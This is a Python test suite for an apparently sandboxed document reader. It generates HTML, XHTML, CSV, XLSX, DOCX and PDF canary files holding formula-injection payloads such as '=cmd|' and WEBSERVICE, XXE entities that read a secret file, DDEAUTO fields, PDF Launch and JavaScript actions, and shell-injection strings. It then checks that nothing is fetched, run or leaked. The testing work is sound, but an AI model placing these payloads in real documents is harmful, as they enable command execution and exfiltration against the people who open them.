"""Files full of references to the outside: nothing is fetched, started, read from elsewhere, or left behind."""

import io
import os
import socketserver
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
import xlsxwriter
from tests.fuzz import writers
from tests.fuzz.structured import Box

HEAD = ("番号", "取組名", "担当課", "実績", "評価", "課題", "今後の方向性")
ROW = ("1", "見守りの輪", "福祉課", "参加者 12人", "○", "担い手が足りない。", "継続")
SECRET = "CANARY-4b1f0c"
# The command as it is, but that it and its worker write down what they open for writing, start and connect to.
NOTED = """
import sys
note = open({log!r}, "a", buffering=1)
def hook(event, arguments):
    if event == "open":
        path, mode, flags = arguments
        if not isinstance(path, int) and ((flags or 0) & 0o3 or set(mode or "") & set("wax+")):
            note.write(f"write {{path!r}}\\n")
    elif event.startswith(("subprocess.", "os.exec", "os.posix_spawn", "os.system", "os.fork", "socket.", "urllib.")):
        note.write(f"{{event}} {{arguments[:2]!r}}\\n")
sys.addaudithook(hook)
"""
WORKER = NOTED + "from sasaeai.sheets.limited.worker import main; main()"
COMMAND = """
from sasaeai import cli
from sasaeai.sheets.limited import process
process.WORKER = ("-I", "-X", "utf8", "-B", "-c", {worker!r})
cli.main()
"""


class Outside(NamedTuple):
    """What a file may try to reach."""

    url: str
    secret: str


class Counter(socketserver.ThreadingTCPServer):
    hits = 0

    def process_request(self, request: object, client_address: object) -> None:
        self.hits += 1
        self.shutdown_request(request)


@pytest.fixture
def server(socket_enabled: None) -> Iterator[Counter]:
    with Counter(("127.0.0.1", 0), socketserver.BaseRequestHandler) as server:
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        yield server
        server.shutdown()


def table_html() -> str:
    rows = ("".join(f"<td>{cell}" for cell in cells) for cells in (HEAD, ROW))
    return "<table>" + "".join(f"<tr>{row}" for row in rows) + "</table>"


def html(outside: Outside) -> bytes:
    url, secret = outside
    return f"""<!doctype html><html manifest="{url}/m"><meta charset="utf-8"><base href="{url}/">
<meta http-equiv="refresh" content="0; url={url}/refresh"><link rel="stylesheet" href="{url}/a.css">
<link rel="preload" as="image" href="{url}/p"><style>@import url({url}/b.css); td {{ background: url({url}/c) }}</style>
<script src="{url}/a.js"></script><script>fetch("{url}/fetch")</script>
<img src="{url}/a.png" srcset="{url}/b.png 2x"><iframe src="{secret}"></iframe><embed src="{secret}">
<object data="{secret}"></object><video src="{url}/v" poster="{url}/w"></video><form action="{url}/f"></form>
<svg><image href="{url}/s"/><use href="{url}/u#x"/></svg><body background="{url}/bg" onload="location='{url}/l'">
<!--#include virtual="{secret}" --><?php echo file_get_contents("{secret}"); ?>{table_html()}""".encode()


def xhtml(outside: Outside) -> bytes:
    url, secret = outside
    return f"""<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet href="{url}/x.xsl" type="text/xsl"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{url}/x.dtd" [<!ENTITY in SYSTEM "{secret}">
<!ENTITY % out SYSTEM "{url}/p.dtd"> %out;]><html xmlns="http://www.w3.org/1999/xhtml"
xmlns:xi="http://www.w3.org/2001/XInclude"><body>&in;<xi:include href="{secret}" parse="text"/>
{table_html()}<p>&in;</p></body></html>""".encode()


def markdown(outside: Outside) -> bytes:
    url, secret = outside
    lines = (f"| {' | '.join(cells)} |" for cells in (HEAD, ["-"] * len(HEAD), ROW))
    body = "\n".join(lines)
    return f"# 評価\n\n![x]({url}/a.png) [y][1]\n\n{{% include {secret} %}}\n\n{body}\n\n[1]: {secret}\n".encode()


def delimited(outside: Outside, sign: str = ",") -> bytes:
    url, secret = outside
    evil = [
        "=cmd|'/C calc'!A0",
        f'"=WEBSERVICE(""{url}/w"")"' if sign == "," else f"=WEBSERVICE({url}/w)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        f"=IMPORTXML('{url}/x'{sign} '//a')".replace(sign, ";"),
        f"='{secret}'#$Sheet1.A1",
        "=DDE('soffice';'x';'y')",
    ]
    lines = [HEAD, ROW, *(["2", text, *ROW[2:]] for text in evil)]
    return "".join(sign.join(line) + "\n" for line in lines).encode()


def text(outside: Outside) -> bytes:
    return (
        delimited(outside, "\t") + f"\n{outside.url}/t {outside.secret}\n$(touch x) `touch y`; ../../../etc\n".encode()
    )


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relations(outside: Outside, *kinds: str) -> bytes:
    targets = [f"{outside.url}/{kind}" for kind in kinds] + [outside.secret]
    inside = "".join(
        f'<Relationship Id="c{at}" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        for at, (kind, target) in enumerate(zip((*kinds, "externalLink"), targets, strict=True))
    )
    return inside.encode()


def changed(made: bytes, change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(made)) as source, zipfile.ZipFile(target, "w") as book:
        for name in source.namelist():
            book.writestr(name, change(name, source.read(name)))
        for name, data in more.items():
            book.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return target.getvalue()


def made_workbook(outside: Outside) -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made) as book:
        sheet = book.add_worksheet("評価")
        for at, cells in enumerate((HEAD, ROW)):
            sheet.write_row(at, 0, cells)
        sheet.write_formula(2, 0, f'=WEBSERVICE("{outside.url}/f")', None, "")
        sheet.write_formula(2, 1, "=cmd|'/C calc'!A0", None, "")
        sheet.write_formula(2, 2, "='[1]Sheet'!A1", None, "")
        sheet.write_url(3, 0, f"{outside.url}/link")
    return made.getvalue()


def workbook(outside: Outside) -> bytes:
    more = relations(outside, "image", "externalLinkPath", "oleObject")

    def change(name: str, data: bytes) -> bytes:
        return data.replace(b"</Relationships>", more + b"</Relationships>") if name.endswith(".rels") else data

    link = f'<externalLink xmlns:r="{RELATIONS}"><externalBook r:id="c0"/></externalLink>'.encode()
    parts = {"xl__externalLinks__externalLink1_dot_xml": link, "xl__vbaProject_dot_bin": bytes(600)}
    parts["xl__externalLinks___rels__externalLink1_dot_xml_dot_rels"] = b"<Relationships>" + more + b"</Relationships>"
    parts["xl__connections_dot_xml"] = f'<connections><webPr url="{outside.url}/c"/></connections>'.encode()
    return changed(made_workbook(outside), change, **parts)


def with_entities(outside: Outside, data: bytes) -> bytes:
    entity = f'<!DOCTYPE x [<!ENTITY in SYSTEM "{outside.secret}"><!ENTITY % p SYSTEM "{outside.url}/d">%p;]>'
    head, mark, rest = data.partition(b"?>")
    return head + mark + entity.encode() + rest.replace("見守りの輪".encode(), b"&in;")


def entity_workbook(outside: Outside) -> bytes:
    return changed(made_workbook(outside), lambda name, data: with_entities(outside, data))


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(outside: Outside) -> bytes:
    rows = "".join(
        "<w:tr>" + "".join(f"<w:tc><w:p><w:r><w:t>{cell}</w:t></w:r></w:p></w:tc>" for cell in cells) + "</w:tr>"
        for cells in (HEAD, ROW)
    )
    fields = (f'INCLUDEPICTURE "{outside.url}/i"', f'INCLUDETEXT "{outside.secret}"', 'DDEAUTO c:\\\\cmd.exe "/k calc"')
    fielded = "".join(
        f'<w:p><w:fldSimple w:instr="{field.replace(chr(34), "&quot;")}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        for field in fields
    )
    kinds = ("attachedTemplate", "aFChunk", "image", "oleObject", "frame", "subDocument")
    chunks = '<w:altChunk r:id="c1"/><w:subDoc r:id="c5"/>'
    more = b"<Relationships>" + relations(outside, *kinds) + b"</Relationships>"
    office = f'<Relationship Id="r1" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/>'
    content = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as book:
        book.writestr(
            "[Content_Types].xml", f'<Types><Override PartName="/word/document.xml" ContentType="{content}"/></Types>'
        )
        book.writestr("_rels/.rels", f"<Relationships>{office}</Relationships>")
        body = f"<w:body>{fielded}{chunks}<w:tbl>{rows}</w:tbl></w:body>"
        book.writestr("word/document.xml", f'<w:document xmlns:w="{WORD}" xmlns:r="{RELATIONS}">{body}</w:document>')
        book.writestr("word/_rels/document.xml.rels", more)
        book.writestr("word/_rels/settings.xml.rels", more)
        book.writestr("word/settings.xml", f'<w:settings xmlns:w="{WORD}"><w:attachedTemplate r:id="c0"/></w:settings>')
    return target.getvalue()


def entity_word(outside: Outside) -> bytes:
    def change(name: str, data: bytes) -> bytes:
        return with_entities(outside, b'<?xml version="1.0"?>' + data) if name == "word/document.xml" else data

    return changed(word(outside), change)


def pdf(outside: Outside) -> bytes:
    url, secret = outside
    table = tuple(Box(row, col, text) for row, line in enumerate((HEAD, ROW)) for col, text in enumerate(line))
    page, wide, high = writers._page_content(table, writers.RULES[0])
    # The fonts of that drawing, with numbers that are free here.
    typeface, face, descriptor = (
        part.replace(b"4 0 R", b"12 0 R").replace(b"5 0 R", b"13 0 R").decode()
        for part in (writers._TYPE_0, writers._CID_FONT, writers._FONT_DESCRIPTOR)
    )
    launch = "<</S/Launch/F(/usr/bin/touch)/Unix<</F(/usr/bin/touch)/P(launched)>>>>"
    names = "/EmbeddedFiles<</Names[(a) 9 0 R]>>/JavaScript<</Names[(j) 7 0 R]>>"
    size = f"/MediaBox[0 0 {wide} {high}]"
    fonts = "/Resources<</Font<</F1 5 0 R>>>>"
    acts = (f"/URI/URI({url}/uri)", f"/GoToR/F({secret})/D[0/Fit]", f"/SubmitForm/F<</FS/URL/F({url}/s)>>")
    links = "".join(f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S{act}>>>>" for act in acts)
    objects = [
        f"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 7 0 R>>/Names<<{names}>>/AcroForm<</XFA 8 0 R>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R{size}/Contents 4 0 R{fonts}/AA<</O {launch}>>/Annots[{links}]>>",
        f"<</Length {len(page)}>>stream\n{page.decode()}\nendstream",
        f"<</Type/Font{typeface}>>",
        launch,
        f"<</S/JavaScript/JS(app.launchURL\\('{url}/js'\\);this.submitForm\\('{url}/f'\\);)>>",
        f"<</Length 0/F<</FS/URL/F({url}/stream)>>>>stream\n\nendstream",
        "<</Type/Filespec/F(evil.exe)/EF<</F 10 0 R>>>>",
        "<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
        "null",
        face,
        descriptor,
    ]
    body, places = b"%PDF-1.7\n", []
    for number, inside in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj{inside}endobj\n".encode()
    entries = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{entries}trailer<</Size {len(objects) + 1}/Root 1 0 R>>"
    return body + f"{end}\nstartxref\n{len(body)}\n%%EOF\n".encode()


CANARIES: dict[str, Callable[[Outside], bytes]] = {
    "評価.html": html,
    "評価.xhtml": xhtml,
    "評価.md": markdown,
    "評価.csv": delimited,
    "評価.txt": text,
    "評価.xlsx": workbook,
    "実体.xlsx": entity_workbook,
    "評価.docx": word,
    "実体.docx": entity_word,
    "評価.pdf": pdf,
}


def everything(folder: Path) -> dict[str, tuple[int, bytes]]:
    files = (path for path in folder.rglob("*"))
    return {
        str(path.relative_to(folder)): (path.stat().st_mtime_ns, b"" if path.is_dir() else path.read_bytes())
        for path in files
    }


def test_the_server_notices_a_visit(server: Counter) -> None:
    host, port = server.server_address[:2]
    code = f"import socket; socket.create_connection(({host!r}, {port})).recv(1)"
    subprocess.run([sys.executable, "-I", "-c", code], timeout=20, check=True)
    assert server.hits == 1


@pytest.mark.parametrize("name", CANARIES)
def test_nothing_is_fetched_started_or_left_behind(name: str, tmp_path: Path, server: Counter) -> None:
    world, log, temporary = tmp_path / "world", tmp_path / "log", tmp_path / "tmp"
    for folder in (world, world / "home", temporary):
        folder.mkdir()
    (world / "secret").write_text(SECRET)
    address = "http://{}:{}".format(*server.server_address[:2])
    (world / name).write_bytes(CANARIES[name](Outside(address, (world / "secret").as_uri())))
    before = everything(world)
    code = NOTED.format(log=str(log)) + COMMAND.format(worker=WORKER.format(log=str(log)))
    answer = subprocess.run(
        [sys.executable, "-B", "-c", code, "sheet", "read", name, "--format", "json"],
        capture_output=True,
        timeout=60,
        check=False,
        cwd=world,
        env={**os.environ, "HOME": str(world / "home"), "TMPDIR": str(temporary)},
    )
    assert answer.returncode == (2 if name.startswith("実体") else 0), answer.stderr.decode()
    assert len(answer.stderr.splitlines()) == (2 if answer.returncode else 0)
    assert SECRET not in answer.stdout.decode() + answer.stderr.decode()
    assert server.hits == 0
    assert everything(world) == before
    assert list(temporary.iterdir()) == []
    started, *others = [line for line in log.read_text().splitlines() if str(temporary) not in line]
    assert started.startswith("subprocess.Popen")
    assert [line for line in others if line != f"write {os.devnull!r}"] == []


@pytest.mark.parametrize(
    "act",
    [
        "import socket; socket.create_connection(('127.0.0.1', 9))",
        "import urllib.request; urllib.request.urlopen('http://127.0.0.1:9/')",
        "import subprocess; subprocess.run(['/bin/true'])",
        "import subprocess; subprocess.run(['tesseract/../true'])",
        "os.system('true')",
        "os.posix_spawn('/bin/true', ['true'], {{}})",
        "os.execv('/bin/true', ['true'])",
        "os.fork()",
        "open({outside!r}, 'w')",
        "open({outside!r}, 'r+')",
        "os.open({outside!r}, os.O_CREAT)",
        "os.remove({outside!r})",
        "os.rename({outside!r}, 'x')",
        "os.mkdir({outside!r} + 'x')",
        "os.chmod({outside!r}, 0)",
        "os.symlink('x', {outside!r} + 'x')",
        "os.symlink('/', 'root'); open('root' + {outside!r}, 'w')",
    ],
)
def test_the_workers_hook_refuses(act: str, tmp_path: Path) -> None:
    outside, inside = tmp_path / "outside", tmp_path / "inside"
    outside.write_text("kept")
    inside.mkdir()
    code = (
        "import os\nfrom sasaeai.sheets.limited import confinement\nconfinement.refuse_outside(os.getcwd())\n"
        "open('x', 'w').close(); os.mkdir('y'); os.remove('x')\n"
        f"try:\n    {act.format(outside=str(outside))}\nexcept PermissionError as error:\n    print(error)"
    )
    said = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=20, check=False, cwd=inside)
    assert "not allowed while a file is read" in said.stdout.decode(), said.stderr.decode()
    assert [(path.name, path.read_text()) for path in tmp_path.iterdir() if path.is_file()] == [("outside", "kept")]
